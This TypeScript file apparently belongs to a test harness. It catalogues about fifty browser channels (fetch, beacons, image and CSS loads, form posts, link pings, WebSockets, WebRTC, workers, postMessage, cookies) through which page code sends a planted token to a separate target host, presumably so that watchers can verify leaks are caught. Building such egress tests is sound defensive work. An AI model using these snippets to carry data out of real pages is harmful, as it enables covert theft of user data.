/** Where a planted leak goes: a host of its own, so that every watcher can tell whose it is. */
export interface LeakTarget {
  /** Address on another origin, ending in a slash. */
  readonly http: string;
  readonly ws: string;
  /** The host alone. */
  readonly host: string;
  /** Address and port where datagrams are taken. */
  readonly udp: string;
  /** Where a frame of another origin tells its server what it is told. */
  readonly frame: string;
  /** What must be seen somewhere. */
  readonly token: string;
}

/** A way by which something can leave a page. */
export interface LeakChannel {
  readonly name: string;
  /** Code for the page, run as if the visitor had clicked. */
  code(target: LeakTarget): string;
  /** What this browser must have for it; without, the channel is impossible here. */
  readonly needs?: string;
  /** Datagrams carry no names: it is told by the port that they come to. */
  readonly isUdp?: true;
  /** It fires in the tab in front only. */
  readonly isInFront?: true;
}

const inWorker = (code: string, kind = "Worker") =>
  `window.w = new ${kind}(URL.createObjectURL(new Blob([${JSON.stringify(code)}], { type: "text/javascript" })));`;
const element = (tag: string, properties: string) =>
  `document.body.append(Object.assign(document.createElement("${tag}"), ${properties}));`;
const link = (rel: string, url: string, more = "") =>
  element("link", `{ rel: "${rel}", href: "${url}", ${more} }`);
const style = (css: string) => element("style", `{ textContent: ${JSON.stringify(css)} }`);
const rules = (kind: string, url: string) =>
  element(
    "script",
    `{ type: "speculationrules", textContent: ${JSON.stringify(JSON.stringify({ [kind]: [{ urls: [url], eagerness: "immediate" }] }))} }`,
  );

/** Every way out that a page of a current browser has, as far as we know. */
export const LEAK_CHANNELS: readonly LeakChannel[] = [
  { name: "fetch", code: ({ http }) => `fetch("${http}").catch(() => 0)` },
  {
    name: "fetch-post",
    code: ({ http, token }) =>
      `fetch("${http}", { method: "POST", body: "${token}", mode: "no-cors" }).catch(() => 0)`,
  },
  {
    name: "fetch-later",
    needs: `"fetchLater" in window`,
    code: ({ http }) => `fetchLater("${http.replace("http:", "https:")}", { activateAfter: 0 })`,
  },
  {
    name: "xhr",
    code: ({ http }) => `{ const x = new XMLHttpRequest(); x.open("GET", "${http}"); x.send(); }`,
  },
  { name: "beacon", code: ({ http }) => `navigator.sendBeacon("${http}", "x")` },
  {
    name: "pagehide-beacon",
    code: ({ http }) => `addEventListener("pagehide", () => navigator.sendBeacon("${http}", "x"))`,
  },
  {
    name: "pagehide-keepalive",
    code: ({ http }) =>
      `addEventListener("pagehide", () => void fetch("${http}", { keepalive: true, mode: "no-cors" }))`,
  },
  { name: "image", code: ({ http }) => `new Image().src = "${http}"` },
  { name: "srcset", code: ({ http }) => element("img", `{ srcset: "${http} 1x" }`) },
  { name: "audio", code: ({ http }) => `new Audio("${http}").load()` },
  { name: "video-poster", code: ({ http }) => element("video", `{ poster: "${http}" }`) },
  { name: "css-background", code: ({ http }) => style(`body { background: url(${http}) }`) },
  { name: "css-import", code: ({ http }) => style(`@import "${http}";`) },
  { name: "stylesheet", code: ({ http }) => link("stylesheet", http) },
  { name: "font", code: ({ http }) => `new FontFace("x", "url(${http})").load().catch(() => 0)` },
  { name: "script", code: ({ http }) => element("script", `{ src: "${http}" }`) },
  { name: "dynamic-import", code: ({ http }) => `import("${http}").catch(() => 0)` },
  { name: "iframe", code: ({ http }) => element("iframe", `{ src: "${http}" }`) },
  { name: "object", code: ({ http }) => element("object", `{ data: "${http}" }`) },
  {
    name: "svg-use",
    code: ({ http }) => `document.body.insertAdjacentHTML("beforeend", '<svg><image href="${http}"/></svg>')`,
  },
  {
    name: "form-post",
    code: ({ http, token }) =>
      `document.body.insertAdjacentHTML("beforeend", '<form method=post target=_self action="${http}"><input name=x value="${token}"></form>'); document.forms[0].submit()`,
  },
  { name: "navigation", code: ({ http }) => `location.href = "${http}"` },
  {
    name: "meta-refresh",
    code: ({ http }) =>
      `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv=refresh content="0;url=${http}">')`,
  },
  { name: "window-open", code: ({ http }) => `open("${http}")` },
  {
    name: "link-ping",
    code: ({ http }) =>
      `document.body.insertAdjacentHTML("beforeend", '<a href="#x" ping="${http}">x</a>'); document.querySelector("a[ping]").click()`,
  },
  {
    name: "link-mark",
    code: ({ http, token }) =>
      `document.body.insertAdjacentHTML("beforeend", '<a class=m href="${http}?from=${token}">x</a>'); document.querySelector("a.m").click()`,
  },
  { name: "prefetch", code: ({ http }) => link("prefetch", http) },
  { name: "preload", code: ({ http }) => link("preload", http, `as: "image"`) },
  { name: "modulepreload", code: ({ http }) => link("modulepreload", http) },
  { name: "preconnect", code: ({ http }) => link("preconnect", http.replace("http:", "https:")) },
  {
    name: "dns-prefetch",
    code: ({ host }) => link("dns-prefetch", `//${host.replace("example", "invalid")}`),
  },
  {
    name: "speculation-prefetch",
    needs: `HTMLScriptElement.supports("speculationrules")`,
    code: ({ token }) => rules("prefetch", `/prefetched?${token}`),
  },
  {
    name: "speculation-prerender",
    isInFront: true,
    needs: `HTMLScriptElement.supports("speculationrules")`,
    code: ({ token }) => rules("prerender", `/prerendered?${token}`),
  },
  { name: "web-socket", code: ({ ws }) => `new WebSocket("${ws}")` },
  {
    name: "web-socket-stream",
    needs: `"WebSocketStream" in window`,
    code: ({ ws }) => `new WebSocketStream("${ws}").opened.catch(() => 0)`,
  },
  { name: "event-source", code: ({ http }) => `new EventSource("${http}")` },
  {
    name: "web-rtc",
    isUdp: true,
    needs: `"RTCPeerConnection" in window`,
    code: ({ udp }) =>
      `{ const c = window.c = new RTCPeerConnection({ iceServers: [{ urls: "stun:${udp}" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); }`,
  },
  {
    name: "web-transport",
    isUdp: true,
    needs: `"WebTransport" in window`,
    code: ({ udp }) =>
      `{ const t = window.t = new WebTransport("https://${udp}/"); t.ready.catch(() => 0); t.closed.catch(() => 0); }`,
  },
  { name: "worker-fetch", code: ({ http }) => inWorker(`fetch("${http}").catch(() => 0)`) },
  { name: "worker-socket", code: ({ ws }) => inWorker(`new WebSocket("${ws}")`) },
  { name: "worker-import", code: ({ http }) => inWorker(`try { importScripts("${http}") } catch {}`) },
  {
    name: "nested-worker",
    code: ({ http }) =>
      inWorker(`new Worker(URL.createObjectURL(new Blob(['fetch("${http}").catch(() => 0)'])))`),
  },
  {
    name: "shared-worker-fetch",
    needs: `"SharedWorker" in window`,
    code: ({ http }) => inWorker(`fetch("${http}").catch(() => 0)`, "SharedWorker"),
  },
  {
    name: "service-worker-fetch",
    needs: `"serviceWorker" in navigator`,
    code: ({ http }) => `navigator.serviceWorker.register("/service.js?" + encodeURIComponent("${http}"))`,
  },
  {
    name: "cache-add",
    needs: `"caches" in window`,
    code: ({ http }) =>
      `caches.open("x").then((c) => c.add(new Request("${http}", { mode: "no-cors" }))).catch(() => 0)`,
  },
  {
    name: "post-message",
    code: ({ frame, token }) =>
      `{ const f = document.createElement("iframe"); f.src = "${frame}"; f.onload = () => f.contentWindow.postMessage("${token}", "*"); document.body.append(f); }`,
  },
  { name: "cookie", code: ({ token }) => `document.cookie = "x=${token}"; fetch("/shop-request")` },
  {
    name: "referrer",
    code: ({ token }) =>
      `history.replaceState(null, "", "?${token}"); fetch("/shop-request", { referrerPolicy: "unsafe-url" })`,
  },
  { name: "same-origin-query", code: ({ token }) => `fetch("/shop-request?${token}")` },
];
